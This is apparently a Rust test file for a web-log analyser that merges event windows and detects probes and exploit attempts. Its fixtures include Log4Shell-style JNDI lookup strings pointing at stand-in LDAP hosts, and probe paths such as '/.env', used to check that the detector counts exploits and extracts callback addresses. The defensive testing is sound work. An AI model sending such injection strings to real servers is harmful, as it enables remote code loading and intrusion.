//! Merging laws, limits, and bytes of windows.

use relight_model::Escape;
use testkit::Rng;

use super::*;

const PATHS: [&str; 12] = [
    "/",
    "/a",
    "/b/1",
    "/b/2",
    "/.env",
    "/owa",
    "/none",
    "/gone/7",
    "/vpn/",
    "/x",
    "/robots.txt",
    "/${jndi:ldap://c.example/a}",
];

fn event(rng: &mut Rng) -> Event<'static> {
    let (at, org) = (1_600_000_000 + rng.below(4_000_000) as i64, OrgId(rng.below(3) as u32));
    let site = Some(SiteId(rng.below(4) as u32)).filter(|site| site.0 < 3);
    let source = if rng.chance(80) {
        IpAddr::from([192, 0, 2, rng.below(20) as u8])
    } else {
        IpAddr::from([0x2001, 0xdb8, 0, rng.below(5) as u16, 0, 0, 0, rng.below(9) as u16])
    };
    Event {
        site,
        host: "www.example.test",
        method: "GET",
        path: PATHS[rng.below(PATHS.len())],
        status: [200, 302, 401, 404, 404, 404, 500][rng.below(7)],
        bytes_out: 1,
        referer: ["", "https://www.example.test/a", "https://other.test/"][rng.below(3)],
        user_agent: ["Mozilla/5.0", "Tool/1", ""][rng.below(3)],
        ja4: ["", "t13d1516h2_8daaf6152771_02713d6af862"][rng.below(2)],
        escape: Escape::Apache,
        ..Event::bare(org, at, source)
    }
}

fn window(segment: u64, events: usize, rng: &mut Rng) -> Window {
    let mut window = Window::new(segment);
    (0..events).for_each(|_| window.observe(&event(rng)));
    window
}

fn merged(windows: &[&Window]) -> Vec<u8> {
    let mut pool = Window::new(0);
    windows.iter().for_each(|window| pool.merge(window));
    pool.to_bytes()
}

#[test]
fn merging_is_associative_commutative_and_idempotent() {
    for seed in 0..50 {
        let mut rng = Rng::new(seed);
        let [a, b, c] = [1, 2, 3].map(|segment| window(segment, 120, &mut rng));
        let whole = merged(&[&a, &b, &c]);
        for order in [[&a, &c, &b], [&b, &a, &c], [&b, &c, &a], [&c, &a, &b], [&c, &b, &a]] {
            assert_eq!(merged(&order), whole, "seed {seed}");
        }
        let mut left = Window::new(0);
        [&a, &b].into_iter().for_each(|window| left.merge(window));
        let mut right = Window::new(0);
        [&b, &c].into_iter().for_each(|window| right.merge(window));
        assert_eq!(merged(&[&left, &c]), whole, "seed {seed}");
        assert_eq!(merged(&[&a, &right]), whole, "seed {seed}");
        assert_eq!(merged(&[&a, &b, &c, &b, &left, &a]), whole, "seed {seed}");
    }
}

#[test]
fn order_of_lines_and_cuts_do_not_matter() {
    let mut rng = Rng::new(99);
    let events: Vec<_> = (0..400).map(|_| event(&mut rng)).collect();
    let of = |segment: u64, events: &mut dyn Iterator<Item = &Event<'static>>| {
        let mut window = Window::new(segment);
        events.for_each(|event| window.observe(event));
        window
    };
    let forth = of(7, &mut events.iter());
    assert_eq!(forth.to_bytes(), of(7, &mut events.iter().rev()).to_bytes());
    // Cut in two segments, only the counters are kept apart; contacts and marks are the same.
    let (head, tail) = events.split_at(150);
    let mut parts = of(1, &mut head.iter());
    parts.merge(&of(2, &mut tail.iter()));
    assert_eq!(parts.contacts, forth.contacts);
    assert_eq!(parts.stats(), forth.stats());
    assert_eq!(crate::judge(&parts), crate::judge(&forth));
}

#[test]
fn a_segment_read_twice_counts_once() {
    let mut rng = Rng::new(5);
    let one = window(8, 50, &mut rng);
    let mut pool = Window::new(0);
    pool.merge(&one);
    pool.merge(&one);
    assert_eq!(pool.stats().events, 50);
    assert_eq!(pool.stats(), one.stats());
}

#[test]
fn refused_lines_are_counted_and_scanned() {
    let mut window = Window::new(3);
    window.observe_refused(OrgId(1), "torn line");
    window.observe_refused(OrgId(1), "torn ${jndi:ldap://x/a} line");
    window.observe_refused(OrgId(1), "torn ${jndi:ldap://x/a");
    let stats = window.stats();
    assert_eq!((stats.refused, stats.unplaced_exploits, stats.events), (3, 1, 0));
    assert_eq!((stats.first, stats.organisations.len()), (None, 0), "no time is known");
    assert_eq!(Window::from_bytes(&window.to_bytes()).unwrap().stats(), stats);
}

#[test]
fn callbacks_that_differ_in_a_number_are_two_contacts() {
    let mut rng = Rng::new(4);
    let base = event(&mut rng);
    let mut window = Window::new(1);
    for path in ["/${jndi:ldap://192.0.2.7/a}", "/${jndi:ldap://192.0.2.8/a}"] {
        window.observe(&Event { path, ..base.clone() });
    }
    assert_eq!(crate::judge(&window)[0].callbacks, ["192.0.2.7", "192.0.2.8"]);
}

#[test]
fn bytes_and_back() {
    let mut rng = Rng::new(6);
    let window = window(8, 300, &mut rng);
    let bytes = window.to_bytes();
    let back = Window::from_bytes(&bytes).unwrap();
    assert_eq!(back.to_bytes(), bytes);
    assert_eq!(crate::judge(&back), crate::judge(&window));
    assert_eq!(Window::new(1).stats(), WindowStats::default());
    assert!(bytes.len() < 20_000, "{}", bytes.len());
}

#[test]
fn damaged_bytes_are_refused_without_panic() {
    let mut rng = Rng::new(7);
    let bytes = window(8, 60, &mut rng).to_bytes();
    for length in 0..bytes.len() {
        assert!(Window::from_bytes(&bytes[..length]).is_err(), "{length}");
    }
    let mut longer = bytes.clone();
    longer.push(0);
    assert_eq!(Window::from_bytes(&longer).unwrap_err().code, "window-trailing");
    let mut other = bytes.clone();
    other[8] = 9;
    assert_eq!(Window::from_bytes(&other).unwrap_err().code, "window-version");
    for _ in 0..2_000 {
        let mut damaged = bytes.clone();
        let at = rng.below(damaged.len());
        damaged[at] ^= 1 << rng.below(8);
        // Either refused, or a window that writes itself back as it was read.
        if let Ok(window) = Window::from_bytes(&damaged) {
            assert_eq!(window.to_bytes(), damaged);
        }
    }
}

#[test]
fn one_visit_keeps_its_strongest_contacts() {
    let paths: Vec<String> = (0..100).map(|number| format!("/w{}", letters(number))).collect();
    let mut rng = Rng::new(1);
    let mut event = event(&mut rng);
    event.status = 404;
    let mut window = Window::new(1);
    let mut observe = |path: &str| {
        let path = path.to_owned();
        window.observe(&Event { path: &path, ..event.clone() });
    };
    paths.iter().for_each(|path| observe(path));
    observe("/.env");
    assert_eq!(window.contacts.len(), VISIT_CONTACTS_MAX);
    assert!(window.contacts.keys().any(|key| key.kind == Kind::Probe), "misses hide no probe");
    let stats = window.stats();
    assert!(stats.truncated && stats.contact_overflow > 0);
    let beyond = 101 - VISIT_CONTACTS_MAX as u64;
    assert_eq!(stats.contact_overflow, beyond, "whichever of two went");
    assert_eq!(stats.events, 101);
}

/// A word without digits for a number, so that path classes differ.
fn letters(mut number: usize) -> String {
    let mut word = String::new();
    for _ in 0..4 {
        word.push(char::from(b'g' + (number % 16) as u8));
        number /= 16;
    }
    word
}

#[test]
fn the_limit_of_contacts_is_reached_and_said() {
    let mut rng = Rng::new(2);
    let facts = Facts {
        first: (0, 404, "/none".to_owned(), Print::default()),
        last: 0,
        in_site: false,
        served: false,
    };
    let mut key = || {
        let source = IpAddr::from((rng.next() as u32).to_be_bytes());
        let visit = Visit::new(source, OrgId(0), None);
        ContactKey { visit, kind: Kind::NotFound, door: rng.next() }
    };
    let mut pool = Window::new(0);
    pool.contacts = (0..CONTACTS_MAX).map(|_| (key(), facts.clone())).collect();
    let mut other = Window::new(0);
    other.contacts = (0..300).map(|_| (key(), facts.clone())).collect();
    let mut kept: Vec<_> = pool.contacts.keys().chain(other.contacts.keys()).copied().collect();
    kept.sort_unstable();
    kept.truncate(CONTACTS_MAX);
    assert!(!pool.stats().truncated);
    pool.merge(&other);
    assert!(pool.contacts.keys().copied().eq(kept), "the smallest keys, whatever came first");
    assert!(pool.stats().truncated);
}

#[test]
fn the_limit_of_segments_is_reached_and_said() {
    let mut pool = Window::new(0);
    let counters = Counters { first: 0, last: 0, events: 1, ..Counters::EMPTY };
    let mut other = Window::new(0);
    for segment in 0..=SEGMENTS_MAX as u64 {
        other.counters.insert((segment, OrgId(0)), counters);
    }
    pool.merge(&other);
    assert_eq!(pool.counters.len(), SEGMENTS_MAX);
    assert!(pool.stats().truncated);
}
